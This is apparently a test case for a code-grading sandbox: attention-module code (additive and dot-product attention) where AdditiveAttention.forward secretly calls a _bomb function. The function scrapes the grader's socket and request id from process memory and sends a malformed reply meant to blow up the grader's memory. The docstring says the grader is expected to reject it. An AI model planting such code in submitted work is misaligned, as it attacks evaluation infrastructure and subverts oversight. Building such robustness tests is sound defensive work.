"""attack: blow the grader up through the wire format. AdditiveAttention.forward finds its connection
to the grader (the socket in its own memory) and the number of the request it is answering (in the
frames of the child's loop), and sends, before its real answer, a well-formed reply of 8 MiB whose
JSON names that one 8 MiB blob 400 times (3.2 GiB if each reference were copied), then a stray
reply with a wrong request number.
expect: the grader refuses the reply (two tensors may not share a blob), so AdditiveAttention scores
0 with a message about a malformed reply; the grading process does not grow by more than a few
hundred MiB; the other components and later submissions are graded normally.
"""
import ctypes
import gc
import math
import os
import signal
import sys
import time

import torch
from torch import nn


def _bomb():
    if not os.path.isdir("/sandbox/runtime"):
        return
    import socket
    import struct
    wire = sys.modules.get("wire")
    rid = None
    frame = sys._getframe()
    while frame is not None:
        if "rid" in frame.f_locals:
            rid = frame.f_locals["rid"]
        frame = frame.f_back
    socks = [o for o in gc.get_objects() if isinstance(o, socket.socket) and o.family == socket.AF_UNIX]
    blob = bytes(8 << 20)
    one = {"__tensor__": 0, "dtype": "float32", "shape": [2 << 20]}
    # The wire format's own encoding of {"ok": [t, t, ...], "rid": rid}, every t naming blob 0.
    header = wire.json.dumps({"__dict__": [["ok", {"__list__": [one] * 400}], ["rid", rid]]}).encode()
    message = wire.frame(header, [blob])
    stray = wire.frame(wire.json.dumps({"__dict__": [["ok", 1], ["rid", -1]]}).encode(), [])
    for s in socks:
        try:
            s.sendall(message)
            s.sendall(stray)
        except OSError:
            pass


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1], device=X.device).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=-1e6)
    return torch.softmax(X.reshape(shape), dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens):
        _bomb()
        queries, keys = self.W_q(queries), self.W_k(keys)
        features = torch.tanh(queries.unsqueeze(2) + keys.unsqueeze(1))
        scores = self.w_v(features).squeeze(-1)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        scores = torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1])
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
